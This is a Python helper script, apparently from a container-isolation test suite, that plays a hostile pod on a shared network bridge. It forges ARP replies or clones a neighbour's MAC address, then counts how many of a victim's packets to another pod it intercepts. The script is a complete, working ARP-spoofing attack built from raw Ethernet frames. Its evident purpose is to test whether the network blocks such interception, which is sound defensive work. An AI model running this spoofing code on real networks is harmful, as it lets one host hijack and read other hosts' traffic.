"""What a hostile pod tries, and what it gets to see. Runs in its container as `python3 -c SOURCE ATTACK VICTIM TARGET`.

In: `arp` (tell the victim that the target's address is here), `clone` (send as the target's MAC) or `listen` (do nothing), and the addresses of
two pods of the same bridge that talk. Out: how many of the victim's packets to the target arrived here. Only the standard library.
"""

from __future__ import annotations

import socket
import struct
import sys
import time
from pathlib import Path

ROUNDS, ROUND_S = 20, 0.05
ETH_ALL, ETH_IP, ETH_ARP = 3, 0x0800, 0x0806
now = time.monotonic  # noqa: TID251 - a program of its own, in a pod


def mac_of(address: str) -> bytes:
    """A neighbour's MAC, found the ordinary way."""
    deadline = now() + 5
    while now() < deadline:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.sendto(b"who", (address, 9))
        for line in Path("/proc/net/arp").read_text().splitlines()[1:]:
            fields = line.split()
            if fields[0] == address and fields[2] != "0x0":
                return bytes.fromhex(fields[3].replace(":", ""))
    raise SystemExit(f"{address} has no MAC")


def main(attack: str, victim: str, target: str) -> None:
    own = bytes.fromhex(Path("/sys/class/net/eth0/address").read_text().strip().replace(":", ""))
    victim_mac, target_mac = mac_of(victim), mac_of(target)
    here, there = socket.inet_aton(victim), socket.inet_aton(target)
    arp = struct.pack(">HHBBH", 1, ETH_IP, 6, 4, 2) + own + there + victim_mac + here
    frames = {
        "arp": victim_mac + own + struct.pack(">H", ETH_ARP) + arp,
        "clone": victim_mac + target_mac + struct.pack(">H", ETH_ARP) + arp,
    }
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_ALL))
    link.bind(("eth0", ETH_ALL))
    overheard = 0
    for _ in range(ROUNDS):
        if attack in frames:
            link.send(frames[attack])
        end = now() + ROUND_S
        while (left := end - now()) > 0:
            link.settimeout(left)
            try:
                frame = link.recv(2000)
            except TimeoutError:
                break
            overheard += frame[12:14] == b"\x08\x00" and frame[26:30] == here and frame[30:34] == there
    print(overheard)  # noqa: T201 - its answer


if __name__ == "__main__":
    main(*sys.argv[1:4])
